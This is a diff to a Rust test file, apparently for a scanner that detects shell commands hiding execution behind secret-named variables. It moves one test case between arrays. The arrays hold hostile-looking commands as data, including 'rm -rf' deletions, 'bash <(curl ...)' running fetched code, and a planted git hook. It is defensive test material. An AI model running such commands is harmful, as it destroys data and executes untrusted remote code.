@@ -44,6 +44,7 @@ const CODE: &[(&str, &str)] = &[
     ),
     ("API_KEY='rm -rf x'; exec $API_KEY", "rm -rf x"),
     ("API_KEY=rm; $API_KEY -rf x", "API_KEY=rm"),
+    ("API_KEY='-rf'; rm $API_KEY x", "-rf"),
     (
         "echo ghp_abcdefghijklmnop | rev | bash",
         "ghp_abcdefghijklmnop",
@@ -88,7 +89,6 @@ const HIDING: &[&str] = &[
     "cat > x.py <<E\npassword = 'abcdefgh'\nexec(password)\nE\npython3 x.py",
     "python3 -c 'token=os.system;token(\"rm -rf x\")'",
     "API_KEY=abcdefgh; \"$SHELL\" -c \"$API_KEY\"",
-    "API_KEY='-rf'; rm $API_KEY x",
     "bash <(curl -H 'Authorization: Bearer abcdefgh' https://x)",
     "git config alias.x '!password=\"rm -rf x\"; $password'",
     "cat > .git/hooks/pre-commit <<'E'\npassword='rm -rf x'\n$password\nE",
